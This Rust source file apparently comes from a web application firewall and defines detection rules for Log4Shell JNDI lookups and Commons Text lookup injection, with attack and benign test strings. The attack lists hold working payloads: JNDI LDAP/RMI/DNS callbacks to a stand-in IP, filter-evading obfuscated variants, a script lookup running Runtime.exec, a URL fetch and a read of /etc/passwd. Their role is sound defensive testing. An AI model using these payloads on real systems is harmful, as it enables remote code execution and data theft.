//! Rules about lookups that a logger or a text library evaluates, each with its proofs.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Rule, RuleMatcher, STRONG};

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[&NAMING_LOOKUP, &SPELT_LOOKUP, &TEXT_LOOKUP];

pub(super) static NAMING_LOOKUP: Rule = Rule {
    id: "java-injection-log4shell/naming-lookup",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A Log4j lookup asks a naming service, plainly or once its nested lookups are evaluated.",
    attacks: &[
        "${jndi:ldap://203.0.113.5/a}",
        "${${lower:j}ndi:rmi://203.0.113.5/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.5/a}",
        "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://203.0.113.5/a}",
        "$&lbrace;jndi:ldap://203.0.113.5/a}",
        "$&lbracejndi:ldap://203.0.113.5/a}",
        "%24%7Bjndi%3Adns%3A%2F%2F203.0.113.5%7D",
        "%24&lcub;\\u006A&#110;di:ldap://203.0.113.5/a}",
        "${:1337:-x$}{jndi:ldap://203.0.113.5/a}",
        "$${env:a:-${env:b:-$}{jndi:ldap://203.0.113.5/a}}}",
    ],
    benign: &[
        "${user.name}",
        "`Hello ${name}, you are ${age}`",
        "${HOME:-/root}",
        "The JNDI lookup jndi:ldap is explained in the manual.",
        "${jndi}",
    ],
};

pub(super) static SPELT_LOOKUP: Rule = Rule {
    id: "java-injection-log4shell/spelt-lookup",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "The name of a Log4j lookup is spelt by nested lookups that yield single letters.",
    attacks: &[
        "${${::-j}${::-n}${::-d}x",
        "${${lower:c}${lower:t}x:loginId}",
        "${${env:A:-s}${env:B:-y}s:user.home}",
        "${${::-${::-$${::-j}}}}",
    ],
    benign: &["${a}${b}", "${outer:${inner}}", "`${list.map(x => `${x}`)}`", "${A:-b} ${C:-d}"],
};

pub(super) static TEXT_LOOKUP: Rule = Rule {
    id: "java-injection-log4shell/text-lookup",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A Commons Text lookup runs a script, resolves a name or fetches a file or URL.",
    attacks: &[
        "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
        "${url:UTF-8:http://203.0.113.5/}",
        "${dns:address|x.example}",
        "${file:UTF-8:/etc/passwd}",
    ],
    benign: &["${url}", "${dns:-8.8.8.8}", "${script}", "${script: name}", "${url:-http://localhost}"],
};
